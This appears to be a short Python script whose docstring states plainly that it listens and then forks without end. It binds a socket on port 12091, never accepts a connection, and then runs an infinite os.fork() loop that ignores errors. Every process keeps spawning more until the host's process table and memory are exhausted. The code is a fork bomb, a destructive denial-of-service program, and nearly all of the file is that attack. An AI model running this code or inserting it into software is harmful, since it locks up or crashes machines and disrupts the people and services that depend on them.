"""Listens, then forks without end: every child forks again."""
import os
import socket

s = socket.socket()
s.bind(("", 12091))
s.listen(5)
while True:
    try:
        os.fork()
    except OSError:
        pass
